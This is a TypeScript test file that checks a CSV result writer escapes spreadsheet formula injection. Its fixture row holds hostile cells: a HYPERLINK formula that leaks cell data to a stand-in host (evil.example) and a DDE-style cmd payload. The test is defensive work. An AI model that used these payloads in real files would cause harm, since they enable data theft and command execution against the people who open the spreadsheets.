/**
 * Spreadsheet formula injection: a result CSV copies the input row's cells and the authority's message;
 * a cell a spreadsheet would evaluate as a formula must reach the file quoted, plain numbers untouched.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { WriteBackOutcome } from '../../src/connectors/contract';
import type { CsvRawDocument } from '../../src/connectors/csv/csv-raw-document';
import { ResultFileWriter } from '../../src/connectors/csv/result-file.writer';

const HEADER = ['InvoiceNo', 'BuyerName', 'Note', 'Discount', 'Tab', 'Cr', 'Mention'];

const hostile: CsvRawDocument = {
  sourceFile: 'sales.csv',
  originalFile: 'sales.csv',
  profile: 'p',
  header: HEADER,
  rows: [
    {
      rowNumber: 2,
      values: [
        'INV-1',
        '=HYPERLINK("http://evil.example/?d="&A2,"open")',
        '+cmd|" /C calc"!A0',
        '-125.50',
        '\t=1+1',
        '\r=1+1',
        '@SUM(1+1)',
      ],
    },
  ],
};

const rejected: WriteBackOutcome = {
  regime: 'in-einvoice',
  state: 'REJECTED',
  identifiers: {},
  error: { errorClass: 'rejected', code: '-2+3', message: '=rejected by the authority' },
};

describe('result CSV: formula injection', () => {
  let outbox: string;
  beforeEach(() => (outbox = mkdtempSync(join(tmpdir(), 'result-formula-'))));
  afterEach(() => rmSync(outbox, { recursive: true, force: true }));

  it('quotes every cell a spreadsheet would run, keeps negative numbers as numbers, and stays so on rewrite', async () => {
    const writer = new ResultFileWriter(outbox);
    const path = await writer.write(hostile, rejected);
    // A second outcome on the same rows: the file is read back and rewritten.
    await writer.write(hostile, { ...rejected, regime: 'in-ewaybill' });
    const [row] = parse<Record<string, string>>(readFileSync(path), { columns: true, bom: true });
    expect(row.InvoiceNo).toBe('INV-1');
    expect(row.BuyerName).toBe(`'=HYPERLINK("http://evil.example/?d="&A2,"open")`);
    expect(row.Note).toBe(`'+cmd|" /C calc"!A0`);
    expect(row.Discount).toBe('-125.50');
    expect(row.Tab).toBe(`'\t=1+1`);
    expect(row.Cr).toBe(`'\r=1+1`);
    expect(row.Mention).toBe(`'@SUM(1+1)`);
    expect(row.ErrorCode).toBe(`'-2+3`);
    expect(row.ErrorMessage.startsWith('in-ewaybill: =rejected')).toBe(true);
    // No cell of the file starts with a formula character unless it is a plain number.
    const records: string[][] = parse(readFileSync(path), { bom: true });
    const cells = records.flat();
    for (const cell of cells) {
      if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^[+-]?[\d,]+(\.\d+)?$/);
    }
  });
});
